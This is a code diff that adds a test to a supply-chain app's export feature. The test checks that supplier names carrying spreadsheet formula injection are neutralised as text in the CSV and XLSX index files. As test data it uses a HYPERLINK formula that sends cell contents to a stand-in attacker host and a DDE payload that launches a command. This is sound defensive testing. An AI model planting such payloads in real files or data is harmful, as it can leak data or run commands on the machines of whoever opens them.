@@ -235,3 +235,24 @@ def test_unreachable_queue_fails_the_job_plainly(session, app, dataset, export_f
     with app.test_request_context():
         job = jobs.enqueue(session, app, exports.KIND, {"period": "2024"}, None)
     assert job.status == "failed" and "queue unreachable" in job.error
+
+
+def test_no_cell_of_the_index_is_a_formula(session, app, dataset, export_folder):
+    """A name that reached the registry before names were checked (`=HYPERLINK(…)`, `@SUM(…)`) lands in
+    index.csv as text with a leading apostrophe and in index.xlsx as a text cell, never a formula."""
+    from supplychain.models import Supplier
+
+    session.get(Supplier, dataset[0].supplier_id).name_zh = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    session.get(Supplier, dataset[1].supplier_id).name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
+    session.commit()
+    job = _run(session, app, {"period": "2024", "language": "zh"})
+    assert job.status == "finished", job.error
+    with zipfile.ZipFile(exports.output_file(job, export_folder)) as archive:
+        text = archive.read("index.csv").decode("utf-8-sig")
+        book = load_workbook(io.BytesIO(archive.read("index.xlsx")))
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    values = [cell for row in book["index"].iter_rows() for cell in row]
+    assert not [c.coordinate for c in values if c.data_type == "f"]
+    assert any(c.value == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" for c in values)
